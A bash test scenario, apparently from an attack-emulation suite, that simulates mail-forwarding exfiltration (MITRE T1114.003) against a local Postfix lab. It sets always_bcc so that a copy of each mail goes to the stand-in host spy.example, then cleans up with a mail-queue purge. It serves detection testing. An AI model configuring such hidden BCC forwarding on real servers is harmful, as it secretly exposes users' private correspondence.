# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1114.003
about="a copy of each mail goes to the attacker's server"
before() {
	printf '220 evil\r\n' | nc -l 127.0.0.1 6666 >"$state/heard" 2>/dev/null &
	listening 6666
	echo 'spy.example smtp:[127.0.0.1]:6666' >>/etc/postfix/transport
}
attack() {
	configure always_bcc=spy@spy.example
	smtp a@else.example joe@lab.example 10
	perhaps effect
	kill %nc %printf
}
effect() { grep -q HLO "$state/heard"; }
after() {
	cp "$state"/kept/* /etc/postfix/
	sed -i /spy/d /etc/postfix/transport
	postsuper -d ALL
}
